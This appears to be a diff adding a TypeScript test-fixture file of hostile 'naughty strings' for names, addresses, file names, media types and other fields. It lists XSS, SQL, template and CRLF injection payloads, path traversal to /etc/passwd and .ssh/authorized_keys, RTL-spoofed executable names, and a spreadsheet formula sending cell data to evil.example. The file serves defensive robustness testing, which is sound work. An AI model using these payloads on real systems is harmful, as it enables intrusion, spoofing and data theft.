@@ -1,0 +1,152 @@
+/*
+ * Strings that have broken other programs, by family. Written for this project; invisible
+ * characters are escaped, so that this file reads the same everywhere.
+ */
+
+type Strings = readonly [string, ...string[]]
+
+const times = (count: number, text: string): string => text.repeat(count)
+
+/** Thirty combining marks on every letter: taller than any row. */
+const stacked = (text: string): string =>
+  [...text].map((letter) => letter + times(10, '\u0300\u0316\u0489')).join('')
+
+/** For names, headlines, messages: whatever is shown as text. */
+export const naughtyTexts: Strings = [
+  '<script>alert("sightline")</script>',
+  '"><img src=x onerror=alert(1)>',
+  '<svg/onload=alert(1)>',
+  '<iframe srcdoc="<script>parent.alert(1)</script>">',
+  '<a href="javascript:alert(1)">open</a>',
+  '<style>body{display:none}</style>',
+  '</title></textarea></script><script>alert(1)</script>',
+  '<!--><img src=x onerror=alert(1)-->',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  "'; DROP TABLE leads; --",
+  '{{constructor.constructor("alert(1)")()}}',
+  '${alert(1)} #{alert(1)} <%= 7 * 7 %>',
+  '{name} {count, plural, one {#} other {#}} %s %d %n',
+  'javascript:alert(1)',
+  '=HYPERLINK("https://evil.example/?"&A1,"click")',
+  '+1+cmd|\' /C calc\'!A0',
+  '-2+3',
+  '@SUM(1+1)',
+  '\t=1+1',
+  '\u202Egnp.eciovni',
+  '\u2067\u2066right\u2069 to left\u2069',
+  'abc\u202E\u202E\u202E\u202Edef',
+  'zero\u200Bwidth\u200Djoiner\uFEFFmark',
+  '\u200B\u200C\u200D\u2060\uFEFF',
+  stacked('Zalgo'),
+  'null\u0000byte',
+  'bell\u0007 escape\u001B[31m del\u007F',
+  'line\u2028separator\u2029paragraph',
+  'first\r\nSet-Cookie: a=b\r\n\r\nbody',
+  'lone \uD83D surrogate \uDC00',
+  '\u{1F469}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}\u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}',
+  times(40, '\u{1F9D1}\u{1F3FD}\u200D\u{1F680}'),
+  'بسم الله <b>123</b> (abc) ١٢٣',
+  'שלום — (a) [b] {c} "d"',
+  '田中さんにあげて下さい\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
+  '\uFDFA\uFDFD',
+  'ﬃ İ ı ẞ ŉ ǰ ᾳ',
+  '𝕿𝖍𝖊 𝖖𝖚𝖎𝖈𝖐',
+  '',
+  ' ',
+  '   spaces   everywhere   ',
+  'constructor',
+  '__proto__',
+  'undefined',
+  'null',
+  'NaN',
+  'true',
+  '0',
+  '1e309',
+  '../../../../etc/passwd',
+  '%00%0a%3Cscript%3E',
+  '&lt;b&gt;&#x3C;script&#x3E;',
+  times(120, 'Wworidwithoutbreaks'),
+  '\\u003cscript\\u003ealert(1)',
+  '"}]}{"status":"error","error":{"message":"forged"}}',
+]
+
+/** Long enough to hurt whoever copies it once a row. */
+export const longText = `Long ${times(12_500, 'wide <b> ')}end`
+
+/** For places that an application would make a link, a picture or a player of. */
+export const naughtyAddresses: Strings = [
+  'javascript:alert(document.domain)',
+  'JaVaScRiPt:alert(1)',
+  '\u0001javascript:alert(1)',
+  'java\tscript:alert(1)',
+  'data:text/html,<script>alert(1)</script>',
+  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
+  'vbscript:msgbox(1)',
+  'blob:https://evil.example/0',
+  'file:///etc/passwd',
+  '//evil.example/picture.png',
+  '/\\evil.example',
+  'https://accounts.example@evil.example/',
+  'https://evil.example\u202E/moc.elpmaxe.stnuocca//:sptth',
+  'https://xn--80ak6aa92e.example/',
+  'http://127.0.0.1:1/v1/me',
+  'https://evil.example/"onmouseover="alert(1)',
+  'https:evil.example',
+  'https://',
+  'not an address',
+  '',
+]
+
+export const naughtyFileNames: Strings = [
+  'invoice\u202Efdp.exe',
+  '../../../.ssh/authorized_keys',
+  '..\\..\\autoexec.bat',
+  'CON',
+  'report.pdf\u0000.html',
+  'a"; filename="b.html',
+  'line\r\nbreak.txt',
+  '<img src=x onerror=alert(1)>.png',
+  `${times(300, 'long')}.pdf`,
+  '.htaccess',
+  '',
+  'photo.jpg   .scr',
+]
+
+export const naughtyMediaTypes: Strings = [
+  'text/html',
+  'image/svg+xml',
+  'application/xhtml+xml',
+  'text/html; charset=utf-7',
+  'image/png\r\nX-Injected: 1',
+  'constructor',
+  '',
+  'application/pdf;<script>',
+]
+
+/** Names of states that collide with what every JavaScript object already has. */
+export const naughtyStates: Strings = [
+  'constructor',
+  '__proto__',
+  'toString',
+  'hasOwnProperty',
+  'valueOf',
+  '<i>state</i>',
+  '',
+  'null',
+  'ACTIVE ',
+]
+
+export const naughtyZones: Strings = ['Mars/Olympus_Mons', 'constructor', '', '<b>UTC</b>', 'Europe/Paris\u0000']
+
+export const naughtySizes: Strings = ['-1', '1e999', 'NaN', '99999999999999999999', '<b>1</b>', '0x10', '']
+
+/** Still an address by the contract's format. */
+export const naughtyEmails: Strings = [
+  "o'neill+--@xn--80ak6aa92e.example",
+  `${times(60, 'a')}@${times(20, 'sub.')}example`,
+  "'or'1'-'1@evil.example",
+]
+
+/** Two characters each, as the contract asks for. */
+export const naughtyCountries: Strings = ['<>', '\u202E\u202E', '--', 'zz']
